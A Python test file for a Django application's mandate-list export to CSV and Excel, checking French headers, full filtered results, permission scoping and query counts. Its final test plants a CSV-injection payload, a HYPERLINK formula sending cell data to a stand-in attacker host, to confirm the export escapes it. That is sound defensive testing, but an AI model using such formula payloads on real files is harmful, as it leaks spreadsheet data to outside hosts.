"""The mandate list as CSV and Excel: every filtered row (not one page), French headers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from consortium.testing.factories import MandateFactory, TimeEntryFactory
from consortium.testing.web import signed_in, url

pytestmark = pytest.mark.django_db

HEADERS = [
    "Code",
    "Titre",
    "Code de l'organisation",
    "Organisation",
    "Type de mandat",
    "Département",
    "Début",
    "Fin",
    "Statut",
    "Heures",
    "Budget d'heures",
    "% du budget",
]


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def xlsx_rows(response) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    return list(workbook.active.iter_rows(values_only=True))


def test_the_csv_holds_the_visible_mandates_with_french_headers(client, scene):
    response = signed_in(client, scene.people.owner).get(
        url("mandates:mandate_list"), {"format": "csv"}
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="mandats-{today}.csv"'
    rows = csv_rows(response)
    assert rows[0] == HEADERS
    assert rows[1:] == [
        [
            "M-CPT",
            "Tenue de livres",
            "FJORD",
            "Coopérative du Fjord",
            "Gestion déléguée",
            "Comptabilité",
            "2020-04-01",
            "",
            "en cours",
            "60.00",
            "100.00",
            "60.0",
        ]
    ]


def test_the_excel_file_holds_every_filtered_row_not_just_one_page(client, scene):
    for _index in range(55):
        MandateFactory(title="Diagnostic", department=scene.department)
    response = signed_in(client, scene.people.director).get(
        url("mandates:mandate_list"), {"format": "xlsx", "q": "diagnostic", "page": 2}
    )
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = xlsx_rows(response)
    assert rows[0] == tuple(HEADERS)
    assert len(rows) == 56
    assert {row[1] for row in rows[1:]} == {"Diagnostic"}


def test_the_excel_file_holds_numbers_and_dates(client, scene):
    response = signed_in(client, scene.people.director).get(
        url("mandates:mandate_list"), {"format": "xlsx", "sort": "code"}
    )
    first = xlsx_rows(response)[1]
    assert first[0] == "M-CPT"
    assert first[6] == dt.datetime(2020, 4, 1)
    assert (first[9], first[10], first[11]) == (60, 100, 60)


def test_an_expert_exports_only_the_mandates_they_may_see(client, scene):
    response = signed_in(client, scene.outsider).get(
        url("mandates:mandate_list"), {"format": "csv"}
    )
    assert [row[0] for row in csv_rows(response)[1:]] == ["M-RH"]


def test_the_english_export_has_english_headers(client, scene):
    response = signed_in(client, scene.people.director).get(
        url("mandates:mandate_list", language="en"), {"format": "csv"}
    )
    headers = csv_rows(response)[0]
    assert headers[4:6] == ["Mandate type", "Department"]


def test_the_export_takes_the_same_queries_however_many_mandates(
    client, scene, django_assert_num_queries
):
    signed_in(client, scene.people.director)
    # Session, user, roles, the fiscal years of the year filter, then every row in one query.
    with django_assert_num_queries(5):
        csv_rows(client.get(url("mandates:mandate_list"), {"format": "csv"}))
    for _index in range(30):
        mandate = MandateFactory(department=scene.department, budget_hours=Decimal(8))
        TimeEntryFactory(mandate=mandate)
    with django_assert_num_queries(5):
        rows = csv_rows(client.get(url("mandates:mandate_list"), {"format": "csv"}))
    with django_assert_num_queries(5):
        client.get(url("mandates:mandate_list"), {"format": "xlsx"})
    assert len(rows) == 33


def test_anonymous_visitors_cannot_export(client, scene):
    response = client.get(url("mandates:mandate_list"), {"format": "csv"})
    assert response.status_code == 302


def test_a_title_planted_as_a_formula_is_written_as_text(client, scene):
    """OWASP's CSV injection: a cell starting with = would run in the spreadsheet."""
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    scene.mandate.title = planted
    scene.mandate.save()
    response = signed_in(client, scene.people.owner).get(
        url("mandates:mandate_list"), {"format": "csv"}
    )
    row = csv_rows(response)[1]
    assert row[1] == "'" + planted
    # The numbers stay numbers: only text cells are escaped.
    assert row[9:] == ["60.00", "100.00", "60.0"]
